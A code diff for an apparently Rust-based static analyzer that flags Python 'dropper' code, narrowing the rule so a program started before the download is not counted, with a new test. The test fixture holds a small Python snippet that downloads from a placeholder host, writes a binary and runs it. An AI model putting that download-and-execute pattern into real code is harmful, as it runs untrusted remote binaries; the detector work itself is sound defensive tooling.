@@ -342,10 +342,16 @@ impl Analyzer {
 
         // Combinations within one file.
         for (path, facts) in &per_file_facts {
-            // Same function (or both at the top level): drop, then run.
+            // Same function (or both at the top level): drop, then run (a program started
+            // before anything is downloaded cannot be the download).
             let same = |a: &[(usize, u32, Scope, String)]| {
                 a.iter()
-                    .find(|(fid, ..)| facts.run_program.iter().any(|(g, ..)| g == fid))
+                    .find(|(fid, line, ..)| {
+                        facts
+                            .run_program
+                            .iter()
+                            .any(|(g, run, ..)| g == fid && run >= line)
+                    })
                     .cloned()
             };
             if let Some((_, line, scope, snip)) = same(&facts.download_to_file) {
@@ -847,6 +853,25 @@ mod tests {
     fn analyzer_is_send_sync() {
         fn ok<T: Send + Sync>() {}
         ok::<Analyzer>();
+    }
+
+    #[test]
+    fn a_program_started_before_the_download_is_not_a_dropper() {
+        let a = Analyzer::new(AnalyzerConfig::default()).unwrap();
+        let rules_of = |src: &str| {
+            a.analyze(&[pf("p-1/p/tool.py", src)], &[])
+                .findings
+                .into_iter()
+                .map(|f| f.rule)
+                .collect::<Vec<_>>()
+        };
+        let fetch_and_write = "    body = urllib.request.urlopen('http://x.test/a').read()\n    \
+                               open('x.bin', 'wb').write(body)\n";
+        let run = "    subprocess.run(['./x.bin'])\n";
+        let before = format!("import subprocess, urllib.request\ndef f():\n{run}{fetch_and_write}");
+        let after = format!("import subprocess, urllib.request\ndef f():\n{fetch_and_write}{run}");
+        assert!(!rules_of(&before).contains(&"PY-DL-WRITE-EXEC".to_string()));
+        assert!(rules_of(&after).contains(&"PY-DL-WRITE-EXEC".to_string()));
     }
 
     #[test]
